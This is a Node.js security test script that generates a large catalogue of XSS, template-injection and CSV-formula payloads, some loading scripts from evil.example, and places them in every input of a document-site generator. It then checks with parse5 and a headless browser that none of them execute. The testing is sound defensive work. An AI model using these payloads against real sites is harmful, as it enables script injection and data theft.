// Hostile text in every place where a site takes text from: nothing of it may run.
//
//     node tests/hostile/xss.mjs PROGRAM [--vectors N] [--pages N] [--tabs N] [--keep DIR] [--reuse 1]
//
// Writes a project in which each vector stands in every sink, with a git history whose authors and subjects are
// vectors as well, builds it, puts other vectors in the place of some, asks `review` and `diff` for their pages of
// what changed, and looks at the site and those pages twice:
//
// 1. An independent parser of HTML (parse5) reads every page; a list of elements, attributes and schemes says
//    what may be in it. SVG, JSON and script files are read as what they are.
// 2. A browser opens the pages (`--pages` of them, 0 for none) with the Content-Security-Policy switched off and
//    everything called that a payload calls: a call, a dialog or a request to anywhere fails the run.
//
// `--reuse 1` opens pages of the site that an earlier run left in `--keep`, documents first.
//
// The vectors are made here, from parts; `--vectors` thins them out evenly.
import { execFileSync, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import vm from "node:vm";
import { deflateSync } from "node:zlib";

const require = createRequire(new URL("../browser/package.json", import.meta.url));
const { parse } = await import(pathToFileURL(require.resolve("parse5")).href);

const options = { vectors: Infinity, pages: 400, keep: "", reuse: 0, tabs: 4 };
const [program, ...rest] = process.argv.slice(2);
for (let at = 0; at < rest.length; at += 2) options[rest[at].slice(2)] = rest[at] === "--keep" ? rest[at + 1] : Number(rest[at + 1]);

// --- Vectors -------------------------------------------------------------------------------------------------

const CALL = "alert(1)";

function allVectors() {
  const vectors = new Set();
  const add = (...texts) => texts.forEach((text) => vectors.add(text));
  const events = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbegin", "oncut", "onscroll", "onwheel"];
  const elements = ["img src=x", "svg", "body", "iframe src=//evil.example", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "object data=x", "embed src=x", "math", "select autofocus", "a href=x", "style", "button", "form", "table background=x", "isindex", "x-y"];
  for (const element of elements) for (const event of events) {
    add(`<${element} ${event}=${CALL}>`, `<${element}/${event}="${CALL}">`, `"><${element} ${event}=${CALL}>`);
  }
  const whole = [
    `<script>${CALL}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script\t>${CALL}</script >`, `<script/x>${CALL}</script>`, `<svg><script>${CALL}</script></svg>`,
    `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`, `<template><script>${CALL}</script></template>`, `<base href=//evil.example/>`,
    `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`,
    `<iframe srcdoc="<script>${CALL}</script>"></iframe>`, `<form action=javascript:${CALL}><input type=submit>`, `<button formaction=javascript:${CALL}>x</button>`,
    `<object data="data:text/html,<script>${CALL}</script>"></object>`, `<svg><set attributeName=href to=javascript:${CALL}></svg>`, `<svg><a xlink:href=javascript:${CALL}><text>x</text></a></svg>`,
    `<svg><foreignObject><iframe onload=${CALL}></iframe></foreignObject></svg>`, `<!--><script>${CALL}</script>-->`, `<!-- --!><script>${CALL}</script>`, `<![CDATA[><script>${CALL}</script>]]>`,
    `<?xml version="1.0"?><script>${CALL}</script>`, `<!DOCTYPE x><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</style><script>${CALL}</script>`,
    `</script><script>${CALL}</script>`, `-->\n<script>${CALL}</script>`, `]]><script>${CALL}</script>`, `';${CALL}//`, `";${CALL}//`, `\\";${CALL}//`, "`;" + CALL + "//", `\u2028${CALL}//`, `</code></pre><script>${CALL}</script>`,
    `{{ ${CALL} }}`, `{{ get_env(name="HOME") }}`, `{% include "/etc/passwd" %}`, `{{ __tera_context }}`, `{{7*7}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `{#x onclick=${CALL}}`, `{#x .y style=z onmouseover="${CALL}"}`, `{onclick=${CALL}}`, `{#"><img src=x onerror=${CALL}>}`,
    `<b onclick=${CALL}>x</b>`, `<sub id=x>`, `<details ontoggle=${CALL} open>x</details>`, `<mark style=position:fixed>`, `<br onclick=${CALL}>`, `<a href="javascript:${CALL}">x</a>`, `<img src="x" srcset="//evil.example 1x">`,
    `<p onclick=${CALL}>`, `<input name=body><form id=location>`, `{#location}`, `{#document}`, `{#getElementById}`, `<div id=search-data data-entries="//evil.example/x.js">`,
    `=${CALL}`, `+cmd|' /C calc'!A0`, `@SUM(1)`, `\u202e<script>${CALL}</script>`, `<scr\0ipt>${CALL}</scr\0ipt>`, `<scr<script>ipt>${CALL}</script>`, `\uff1cscript\uff1e${CALL}`, `+ADw-script+AD4-${CALL}`, `<\u0130mg src=x onerror=${CALL}>`, `<\u017fcript>${CALL}</\u017fcript>`,
    `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\u003cscript\\u003e${CALL}`,
  ];
  const around = [(v) => v, (v) => `a ${v} b`, (v) => `**${v}**`, (v) => `[${v}](x)`, (v) => `"${v}`, (v) => `'>${v}`, (v) => `\`${v}`, (v) => `| ${v} |`, (v) => `<b>${v}`, (v) => `<details>${v}`, (v) => `\\${v}`, (v) => `${v}${v}`];
  for (const vector of whole) for (const way of around) add(way(vector));
  const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "java&Tab;script:", "java&NewLine;script:", "javascript%3a", "%6aavascript:", "&#106;avascript:", "&#0000106avascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:", "file:///", "filesystem:", "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "https:\\\\evil.example", "javascript://%0a", "java\u00adscript:", "java\u200bscript:", "\u00a0javascript:", "javascript\u2028:", "x:", "ms-its:", "mhtml:"];
  const shapes = [(u) => `[x](${u})`, (u) => `[x](<${u}>)`, (u) => `![x](${u})`, (u) => `<${u}>`, (u) => `[x][y]\n\n[y]: ${u}`, (u) => `[[${u}]]`, (u) => `[[${u}|x]]`, (u) => `[x](y "${u}")`, (u) => u, (u) => `[![a](${u})](${u})`, (u) => `<a href="${u}">x</a>`, (u) => `[x](x.md#${u})`];
  for (const scheme of schemes) for (const shape of shapes) add(shape(`${scheme}${CALL}`));
  const styles = ["background:url(javascript:X)", "width:expression(X)", "behavior:url(#x)", "-moz-binding:url(x)", "@import 'x'", "position:fixed;inset:0"];
  for (const style of styles) add(`<p style="${style.replace("X", CALL)}">`, `{style="${style}"}`, `<style>${style}</style>`);
  const diagrams = [`flowchart TD\na["<img src=x onerror=${CALL}>"]`, `flowchart TD\na-->b\nclick a "javascript:${CALL}"`, `flowchart TD\nsubgraph <script>${CALL}</script>\na\nend`, `sequenceDiagram\nA->>B: <script>${CALL}</script>`, `sequenceDiagram\nparticipant x as <img src=x onerror=${CALL}>`, `stateDiagram-v2\ns1: <svg onload=${CALL}>`, `%%{init: {"x": "<script>"}}%%\nflowchart TD\na`, `flowchart TD\na -->|"</text><script>${CALL}</script>"| b`, `flowchart TD\nstyle a fill:url(javascript:${CALL})`];
  for (const diagram of diagrams) add("```mermaid\n" + diagram + "\n```");
  return [...vectors];
}

const every = allVectors();
const step = Math.max(1, every.length / options.vectors);
const vectors = Array.from({ length: Math.min(every.length, options.vectors) }, (_, at) => every[Math.floor(at * step)]);

// --- The project ----------------------------------------------------------------------------------------------

const work = options.keep ? resolve(options.keep) : mkdtempSync(join(tmpdir(), "xss-"));
const project = join(work, "project"), site = join(work, "site");
if (!options.reuse) for (const folder of [project, site]) rmSync(folder, { recursive: true, force: true });
const line = (text) => text.replace(/[\r\n]+/g, " ");
const plain = (text) => line(text).replace(/[\u0000-\u001f\u007f\u2028\u2029\u202a-\u202e\u200b-\u200f\u00ad]/g, " ");
const toml = (text) => JSON.stringify(text.replace(/\u007f/g, "")).replace(/\\u2028/g, "\u2028");
const fileName = (text) => plain(text).replaceAll("/", "\u2215").replace(/^\.+/, "_").slice(0, 60).trim() || "_";
const put = (path, text) => { mkdirSync(dirname(join(project, path)), { recursive: true }); writeFileSync(join(project, path), text); };

/** The places in a document; each gives the lines that hold the vector. */
const BODY_SINKS = {
  "inline": (v) => `before ${line(v)} after`,
  "heading": (v) => `## ${line(v)}`,
  "heading-attributes": (v) => `## h {#${line(v)}}`,
  "heading-class": (v) => `## h {.${line(v)} ${line(v)}=x}`,
  "emphasis": (v) => `*${line(v)}* **${line(v)}** ~~${line(v)}~~`,
  "link-text": (v) => `[${line(v)}](https://example.org)`,
  "link-address": (v) => `[x](${line(v)}) [y](<${line(v)}>)`,
  "link-title": (v) => `[x](https://example.org "${line(v)}")`,
  "image-alt": (v) => `![${line(v)}](p.png)`,
  "image-address": (v) => `![x](${line(v)})`,
  "image-title": (v) => `![x](p.png '${line(v)}')`,
  "autolink": (v) => `<https://example.org/${line(v)}>`,
  "definition-of-link": (v, n) => `[l${n}]: <${line(v)}> "${line(v)}"\n\n[l${n}]`,
  "reference-label": (v) => `[${line(v)}][]`,
  "code": (v) => "`` " + line(v) + " ``",
  "code-info": (v) => "```" + line(v).replaceAll("`", "'") + "\nx\n```",
  "code-text": (v) => "~~~rust\n" + line(v) + "\n~~~",
  "cell": (v) => `| a | b |\n|---|:-:|\n| ${line(v)} | x |`,
  "head-cell": (v) => `| ${line(v)} | b |\n|---|---|\n| x | x |`,
  "footnote": (v, n) => `a[^n${n}]\n\n[^n${n}]: ${line(v)}`,
  "footnote-label": (v) => `a[^${line(v)}]\n\n[^${line(v)}]: x`,
  "term": (v) => `${line(v)}\n: a meaning`,
  "definition": (v, n) => `t${n}\n: ${line(v)}`,
  "reference": (v) => `[[${line(v)}]]`,
  "reference-text": (v) => `[[XSS-0000|${line(v)}]]`,
  "variable": (v, n) => `{{ v${n} }} {{ ${line(v)} }}`,
  "quote": (v) => `> [!NOTE]\n> ${line(v)}`,
  "task": (v) => `- [x] ${line(v)}`,
  "raw-html": (v) => `<details><summary>${line(v)}</summary>\n\n${line(v)}\n\n</details>`,
  "html-block": (v) => `<div>\n${line(v)}\n</div>`,
  "mermaid": (v) => "```mermaid\nflowchart TD\na[\"" + line(v).replaceAll('"', "'") + "\"] --> b\n```",
};
const FRONT_SINKS = ["title", "version", "owner", "classification", "change", "audience", "supersedes", "aliases", "record name", "record location", "record retention", "record disposition", "approver"];
const OTHER_SINKS = ["id", "kind and satisfies", "file name", "folder name", "git author", "git address", "git subject", "register key", "register cell", "register link", "role title", "role holder", "variable value", "reason for applicability", "name of the manual", "name of the organization"];

function documentOf(vector, number) {
  const v = toml(plain(vector)), id = `XSS-${String(number).padStart(4, "0")}`;
  const front = ["+++", `id = "${id}"`, `title = ${v}`, `kind = "procedure"`, `version = ${v}`, `status = "approved"`, `owner = ${v}`, "effective = 2025-01-01",
    `audience = [${v}, "boss"]`, `classification = ${v}`, `change = ${v}`, `supersedes = [${v}]`, `aliases = [${v}, "old/${number}.html"]`, `satisfies = ["9001:7.5#h", ${v}]`,
    "[[records]]", `name = ${v}`, `answers = ["9001:7.5.3.2"]`, `location = ${v}`, `retention = ${v}`, `owner = "boss"`, `disposition = ${v}`,
    "[approval]", `by = ${v}`, "on = 2025-01-01", `digest = ${v}`, "+++"];
  // Last, because it may swallow what follows.
  return [...front, "", `# ${line(vector)}`, "", bodyOf(vector, number), "", vector, "", `<!-- ${vector}`].join("\n");
}

function bodyOf(vector, number) {
  return Object.values(BODY_SINKS).map((sink) => sink(vector.replaceAll("\0", ""), number)).join("\n\n");
}

function writeProject() {
  const lines = ["[manual]", `title = ${toml(plain(vectors[7 % vectors.length]))}`, `organization = ${toml(plain(vectors[0]))}`, "[sources]", 'roots = ["content"]', "[standards]", '"9001" = "iso-9001-2015"', '"42001" = "iso-42001-2023"',
    "[control]", 'approval = "status"', "[roles.boss]", 'title = "Boss"', "[variables]"];
  vectors.forEach((vector, number) => lines.push(`v${number} = ${toml(plain(vector))}`));
  vectors.forEach((vector, number) => lines.push(`[roles.r${number}]`, `title = ${toml(plain(vector))}`, `holders = [${toml(plain(vector))}]`));
  ["9001:8.3", "42001:A.2.2", "42001:A.5.2", "9001:7.1.5"].forEach((clause, at) => lines.push("[[applicability]]", `clause = "${clause}"`, "applicable = false", `reason = ${toml(plain(vectors[(at * 31) % vectors.length]))}`, 'owner = "boss"'));
  put("clausebook.toml", lines.join("\n") + "\n");
  const quoted = (text) => `"${plain(text).replaceAll('"', '""')}"`;
  put("content/register.md", '+++\nid = "REG-001"\ntitle = "Things"\nkind = "register"\nversion = "1"\nstatus = "approved"\nowner = "boss"\neffective = 2025-01-01\n[register]\nname = "things"\nsource = "things.csv"\n[register.columns]\nkey = "key"\ntext = "text"\nlink = "link"\nowner = "role"\ndue = "due"\n+++\n\n# Things\n');
  put("content/things.csv", ["key,text,link,owner,due", ...vectors.map((v, n) => [n % 2 ? `T-${n}` : quoted(v), quoted(v), quoted(v.slice(0, 80)), quoted(v.slice(0, 40)), "2027-01-01"].join(","))].join("\n") + "\n");
  put("content/p.png", Buffer.from("89504e470d0a1a0a", "hex"));
  put("content/glossary.md", '+++\ntitle = "Glossary"\nglossary = true\n+++\n\n# Glossary\n\n' + vectors.filter((v) => !v.includes("\n")).slice(0, 500).map((v) => `${v}\n: ${v}`).join("\n\n") + "\n");
  return vectors.map((vector, number) => {
    const path = `content/${fileName(vectors[(number * 7) % vectors.length]).slice(0, 40)}-${number % 40}/${fileName(vector)}-${number}.md`;
    put(path, documentOf(vector, number));
    return path;
  });
}

/** Commits whose author, address and subject are vectors, written as objects: git itself would refuse some. */
function writeHistory() {
  const git = (args, input) => execFileSync("git", ["-C", project, ...args], { input, encoding: "utf8", maxBuffer: 1 << 28, stdio: ["pipe", "pipe", "ignore"] }).trim();
  git(["init", "-q", "-b", "main"]);
  git(["add", "-A"]);
  const tree = git(["write-tree"]);
  let parent = "";
  const store = (type, text) => {
    const bytes = Buffer.concat([Buffer.from(`${type} ${Buffer.byteLength(text)}\0`), Buffer.from(text)]);
    const name = createHash("sha1").update(bytes).digest("hex");
    mkdirSync(join(project, ".git/objects", name.slice(0, 2)), { recursive: true });
    writeFileSync(join(project, ".git/objects", name.slice(0, 2), name.slice(2)), deflateSync(bytes));
    return name;
  };
  // The first commit adds everything; the others change one document each, so that their subjects are shown with it.
  const chosen = vectors.slice(0, 60);
  chosen.forEach((vector, number) => {
    const who = `${plain(vector)} <${plain(vector).replaceAll(">", "")}> ${1700000000 + number * 1000} +0000`;
    put("content/changing.md", `+++\nid = "XSC-0001"\ntitle = "Changing"\nkind = "procedure"\nversion = "${number}"\nstatus = "approved"\nowner = "boss"\neffective = 2025-01-01\n+++\n\n# Changing\n\nText ${number}.\n\n${bodyOf(vector, number)}\n`);
    git(["add", "-A"]);
    const now = number ? git(["write-tree"]) : tree;
    parent = store("commit", `tree ${now}\n${parent ? `parent ${parent}\n` : ""}author ${who}\ncommitter ${who}\n\n${vector}\n\nReviewed-by: ${who}\n`);
  });
  git(["update-ref", "refs/heads/main", parent]);
  return chosen.length;
}

// --- Looking at the site with another parser ---------------------------------------------------------------------

const ELEMENTS = new Set(("html head body title meta link script main nav header footer section article aside div span p a ul ol li dl dt dd table thead tbody tfoot tr th td caption colgroup col h1 h2 h3 h4 h5 h6 em strong b i u del ins sub sup kbd mark small abbr code pre blockquote br wbr hr img figure figcaption details summary form input button label select option optgroup output progress meter time dialog fieldset legend search noscript template hgroup address data q cite samp var s " +
  "svg path circle rect line g use symbol text polyline polygon defs title tspan").split(" "));
const ATTRIBUTES = /^(id|class|href|src|alt|title|lang|dir|role|rel|type|name|property|content|charset|media|sizes|width|height|loading|decoding|tabindex|scope|colspan|rowspan|headers|for|value|placeholder|min|max|step|open|hidden|disabled|checked|selected|readonly|required|multiple|autocomplete|spellcheck|inputmode|enterkeyhint|datetime|start|reversed|cite|download|method|defer|async|popover|popovertarget|popovertargetaction|aria-[a-z]+|data-[a-z0-9-]+|http-equiv|autocapitalize|accesskey|translate|inert|span|label|list|form|high|low|optimum|viewbox|d|cx|cy|r|rx|ry|x|y|x1|x2|y1|y2|points|fill|stroke|stroke-[a-z]+|transform|xmlns|preserveaspectratio|focusable|fill-rule|clip-rule|text-anchor|dominant-baseline|opacity|fetchpriority)$/;
const ADDRESSES = new Set(["href", "src", "action", "formaction", "data", "poster", "background", "srcset", "xlink:href", "cite", "ping", "manifest"]);

/** A report is a page that needs nothing beside it: it has one stylesheet of its own, in its head. */
function judgePage(address, html, report, isReport = false) {
  const own = new URL(pathToFileURL(join(site, address)).href);
  const stack = [parse(html)];
  let styles = isReport ? 1 : 0;
  while (stack.length) {
    const node = stack.pop();
    stack.push(...(node.childNodes ?? []), ...(node.content ? [node.content] : []));
    if (!node.tagName) continue;
    const tag = node.tagName.toLowerCase();
    if (tag === "style" && node.parentNode.tagName === "head" && styles-- > 0) continue;
    if (!ELEMENTS.has(tag)) report(`<${tag}>`);
    if (tag === "script" && node.childNodes.length) report("a script in the page");
    if (tag === "script" && !node.attrs.some(({ name }) => name === "src")) report("a script without address");
    if (tag === "meta" && node.attrs.some(({ name, value }) => name === "http-equiv" && value.toLowerCase() !== "content-security-policy")) {
      // An old address leads to a page of this site.
      const way = node.attrs.find(({ name }) => name === "content")?.value.match(/^0; url=([^;"'<>]+\.html)$/)?.[1];
      if (!way || !new URL(way, own).href.startsWith(pathToFileURL(site).href)) report("a meta refresh");
    }
    for (const { name, value } of node.attrs) {
      const known = name.toLowerCase();
      if (!ATTRIBUTES.test(known)) report(`${tag} ${known}`);
      if (known.startsWith("on") || known === "style" || known === "srcdoc") report(`${tag} ${known}=`);
      if (!ADDRESSES.has(known)) continue;
      let url;
      try { url = new URL(value, own); } catch { continue; }
      const inside = url.protocol === "file:" && url.href.startsWith(pathToFileURL(site).href);
      const outside = tag === "a" && ["https:", "http:", "mailto:", "tel:"].includes(url.protocol);
      if (!inside && !outside) report(`${tag} ${known}=${value.slice(0, 60)}`);
      if (tag !== "a" && !inside) report(`${tag} loads ${value.slice(0, 60)}`);
      if ((tag === "script" || tag === "link") && !/^(\.\.\/)*(assets\/|[a-z-]+\.(js|xml|ics)$|search\/)/.test(value)) report(`${tag} ${known}=${value.slice(0, 60)}`);
    }
  }
}

/** A data file of ours may only hand over data: it is run where nothing else is. */
function judgeScript(address, text, report) {
  if (address.startsWith("assets/")) return;
  const touched = [];
  const world = vm.createContext({ alert: () => touched.push("alert"), document: new Proxy({}, { get: (_, name) => touched.push(`document.${String(name)}`) }) });
  vm.runInContext("var window = globalThis, self = globalThis;", world);
  try {
    vm.runInContext(text, world, { timeout: 5000 });
  } catch (error) {
    if (!/is not a function|is not defined/.test(error.message)) report(`does not run: ${error.message}`);
  }
  if (touched.length) report(`touches ${touched.slice(0, 3)}`);
}

function judgeDrawing(text, report) {
  if (/<(script|foreignObject|iframe|a|set|animate)\b|\son\w+\s*=|javascript:|<!ENTITY/i.test(text.replace(/>[^<]*</g, "><").replace(/"[^"]*"/g, (value) => /^"(javascript|data):/i.test(value) ? value : '""'))) report("something active in a drawing");
}

function look() {
  const found = new Map();
  const files = readdirSync(site, { recursive: true, withFileTypes: true }).filter((file) => file.isFile());
  let pages = 0;
  for (const file of files) {
    const path = join(file.parentPath ?? file.path, file.name), address = path.slice(site.length + 1);
    const report = (what) => found.set(what, [...(found.get(what) ?? []), address]);
    const text = () => readFileSync(path, "utf8");
    if (address.endsWith(".html")) pages++, judgePage(address, text(), report);
    else if (address.endsWith(".svg")) judgeDrawing(text(), report);
    else if (address.endsWith(".js")) judgeScript(address, text(), report);
    else if (/\.(json|csv|ics|xml|txt|css|png|xlsx|md|webmanifest)$/.test(address)) { if (address.endsWith(".json")) JSON.parse(text()); }
    else report(`a file of an unknown kind: ${address}`);
  }
  return { found, pages, files: files.length };
}

// --- What changed, told in pages, comments and tables of their own ---------------------------------------------------

/** Puts other vectors into some documents and gives what the program says about that: name and bytes. */
function reports() {
  const some = vectors.length > 400 ? 120 : 20;
  const step = Math.max(1, Math.floor(vectors.length / some));
  const changed = [];
  for (let number = 0; number < vectors.length; number += step) {
    const other = vectors[(number + 1) % vectors.length];
    writeFileSync(join(project, paths[number]), documentOf(other, number));
    changed.push(`XSS-${String(number).padStart(4, "0")}`);
  }
  const say = (...words) => {
    const done = spawnSync(resolve(program), [...words, "-C", project, "--date", "2026-11-22", "--quiet"], { encoding: "utf8", maxBuffer: 1 << 30 });
    if (done.status !== 0 && done.status !== 1) throw new Error(`${words}: ${done.status} ${done.signal} ${done.stderr?.slice(-1000)}`);
    return done.stdout;
  };
  const made = ["html", "json", "markdown", "github"].map((format) => [`review.${format}`, say("review", "--base", "main", "--format", format)]);
  made.push(["whatif.html", say("whatif", "--retire", "XSS-0001", "--format", "html")]);
  changed.slice(0, 40).forEach((id) => made.push([`diff-${id}.html`, say("diff", id, "main", "--format", "html")]));
  return made;
}

/** What of Markdown is neither code nor escaped, line by line. */
function bare(text) {
  let fence = "", out = "";
  for (const row of text.split("\n")) {
    const mark = row.match(/^\s*(`{3,}|~{3,})/)?.[1] ?? "";
    if (fence ? mark.startsWith(fence) : mark) fence = fence ? "" : mark;
    else if (!fence) for (let at = 0; at < row.length; at++) {
      const run = row[at] === "`" ? row.slice(at).match(/^`+/)[0] : "";
      const end = run ? [...row.slice(at + run.length).matchAll(/`+/g)].find(([other]) => other === run) : undefined;
      if (end) at += 2 * run.length + end.index - 1;
      else if (row[at] === "\\") out += "_", at++;
      else out += row[at];
    }
    out += "\n";
  }
  return out;
}

/** What Markdown shows as text must not be markup: each `<` is one of the few elements that the program writes. */
function judgeComment(text, report) {
  for (const [tag] of bare(text).matchAll(/<[a-z!/?][^>\n]{0,20}/gi)) {
    if (!/^<\/?(details|summary|ins|del|br|sub|sup|b|code|!-- clausebook)\b/i.test(tag)) report(`a comment with ${tag}`);
  }
  for (const [link] of bare(text).matchAll(/\]\((?!https?:|#|\/|[A-Za-z0-9._-]+\/)[^)]{0,30}/g)) report(`a comment with a link ${link}`);
}

function judgeReports(made) {
  const found = new Map();
  for (const [name, text] of made) {
    const report = (what) => found.set(what, [...(found.get(what) ?? []), name]);
    if (!text) report("nothing was said");
    if (name.endsWith(".html")) judgePage(name, text, report, true);
    else if (name.endsWith(".json")) JSON.parse(text);
    else if (name.endsWith(".markdown")) judgeComment(text, report);
    else for (const line of text.split("\n")) if (line && !/^::(notice|warning|error|group|endgroup)/.test(line)) report(`a line of a log that is none: ${line.slice(0, 60)}`);
    if (!name.endsWith(".html") && /[\u0000-\u0008\u000b-\u001f\u007f\u0080-\u009f\u202a-\u202e\u2066-\u2069]/.test(text)) report("a control character");
    if (name.endsWith(".html")) writeFileSync(join(work, name), text);
  }
  return found;
}

// --- Looking at it with a browser -------------------------------------------------------------------------------

/** The pages that a browser stays on: an old address leads to another of them. */
function htmlPages() {
  const pages = readdirSync(site, { recursive: true }).filter((file) => file.endsWith(".html")).sort();
  return pages.filter((address) => !readFileSync(join(site, address), "utf8").includes('<meta http-equiv="refresh"'));
}

/** Opens the pages, in several tabs at once, and gives what ran and how many were opened. */
async function run(addresses) {
  const { launch } = await import("../browser/browser.mjs");
  const browser = await launch();
  const executed = new Map(), queue = [...addresses];
  const begun = Date.now();
  let opened = 0;
  const tab = async () => {
    const page = await watched(browser, executed);
    for (let address = queue.shift(); address !== undefined; address = queue.shift()) {
      await page.open(address);
      opened++;
      if (opened % 200 === 0) console.error(`${opened} of ${addresses.length} pages, ${executed.size} kinds of execution, ${Math.round((Date.now() - begun) / 1000)} s`);
    }
    return page;
  };
  try {
    const [last] = await Promise.all(Array.from({ length: Math.min(options.tabs, addresses.length) }, tab));
    await last.search();
  } finally {
    await browser.close();
  }
  return { executed, opened };
}

/** A tab without policy that writes down whatever runs in it. */
async function watched(browser, executed) {
  const page = await browser.newPage();
  // Nobody looks at it: a small window is painted quickly.
  await page.setViewport({ width: 640, height: 120 });
  await page.setBypassCSP(true);
  page.setDefaultTimeout(120_000);
  let here = "";
  const note = (what) => executed.set(what, [...(executed.get(what) ?? []), here]);
  page.on("dialog", (dialog) => (note("a dialog"), dialog.dismiss().catch(() => {})));
  page.on("request", (request) => {
    if (!/^(file|about|blob):|^data:image/.test(request.url())) note(`a request to ${request.url().slice(0, 60)}`);
  });
  await page.evaluateOnNewDocument(() => {
    window.called = [];
    for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.called.push(name);
  });
  const open = async (address) => {
    here = address;
    await page.goto(pathToFileURL(join(site, address)).href + "?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E#%22%3E%3Cimg src=x onerror=alert(1)%3E", { waitUntil: "load" });
    const seen = await page.evaluate(async () => {
      // Whatever waits for a pointer, the focus or a key gets it.
      for (const element of document.querySelectorAll("body *")) {
        for (const type of ["mouseover", "pointerenter", "focus", "toggle", "animationstart", "wheel"]) element.dispatchEvent(new Event(type));
      }
      await new Promise((done) => setTimeout(done, 5));
      const odd = [...document.querySelectorAll("a[href], area[href]")].filter((a) => !["http:", "https:", "mailto:", "tel:", "file:"].includes(a.protocol)).map((a) => a.href);
      const events = [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name));
      return { called: window.called, odd, events };
    });
    seen.called.forEach((name) => note(`called ${name}`));
    seen.odd.forEach((href) => note(`a link to ${href.slice(0, 60)}`));
    seen.events.forEach((name) => note(`an attribute ${name}`));
  };
  // Search shows titles and texts of documents.
  const search = async () => {
    here = "search";
    await page.setViewport({ width: 1280, height: 900 });
    await page.bringToFront();
    await page.goto(pathToFileURL(join(site, "index.html")).href, { waitUntil: "load" });
    for (const word of ["alert", "script", "onerror", "javascript", "img src"]) {
      await page.keyboard.press("Escape");
      await page.keyboard.press("/");
      await page.keyboard.type(word);
      await new Promise((done) => setTimeout(done, 700));
      await page.keyboard.press("ArrowDown");
    }
    for (const name of await page.evaluate(() => window.called)) note(`called ${name}`);
  };
  return { open, search };
}

// --- Together -----------------------------------------------------------------------------------------------------

if (options.reuse) {
  const pages = htmlPages();
  const { executed, opened } = await run([...pages.filter((page) => page.startsWith("documents/")), ...pages.filter((page) => !page.startsWith("documents/"))].slice(0, options.pages));
  console.log(`${opened} pages opened without a policy, ${executed.size} kinds of execution`);
  for (const [what, where] of executed) console.log(`  ${what}: ${where.length} times, for example ${where[0]}`);
  process.exit(executed.size ? 1 : 0);
}
const paths = writeProject();
const commits = writeHistory();
const built = spawnSync(resolve(program), ["build", "-C", project, "--out", site, "--date", "2026-11-22", "--quiet"], { encoding: "utf8", maxBuffer: 1 << 30 });
if (built.status !== 0 && built.status !== 1) {
  console.error(`the build failed: ${built.status} ${built.signal} ${built.stderr?.slice(-2000)}`);
  process.exit(1);
}
const said = (built.stdout + built.stderr).match(/[\u0000-\u0008\u000b-\u001f\u007f\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
const { found, pages, files } = look();
const all = htmlPages();
const stride = Math.max(1, all.length / Math.max(1, options.pages));
const told = reports();
for (const [what, where] of judgeReports(told)) found.set(what, where);
const chosen = options.pages ? Array.from({ length: Math.min(all.length, options.pages) }, (_, at) => all[Math.floor(at * stride)]) : [];
if (options.pages) chosen.unshift(...told.map(([name]) => name).filter((name) => name.endsWith(".html")).slice(0, options.pages > 50 ? Infinity : 3).map((name) => `../${name}`));
const { executed, opened } = chosen.length ? await run(chosen) : { executed: new Map(), opened: 0 };
const sinks = Object.keys(BODY_SINKS).length + FRONT_SINKS.length + OTHER_SINKS.length;
console.log(`${vectors.length} vectors in ${sinks} sinks, ${paths.length} documents, ${commits} commits: ${pages} pages of ${files} files and ${told.length} reports read by parse5, ${found.size} kinds of finding; ${opened} pages opened without a policy, ${executed.size} kinds of execution`);
for (const [what, where] of [...found, ...executed]) console.log(`  ${what}: ${where.length} times, for example ${where[0]}`);
if (said) console.log(`  a control character in what was printed: ${JSON.stringify(said[0])} in ${JSON.stringify((built.stdout + built.stderr).slice(Math.max(0, said.index - 80), said.index + 20))}`);
if (!options.keep) rmSync(work, { recursive: true, force: true });
process.exit(found.size || executed.size || said ? 1 : 0);
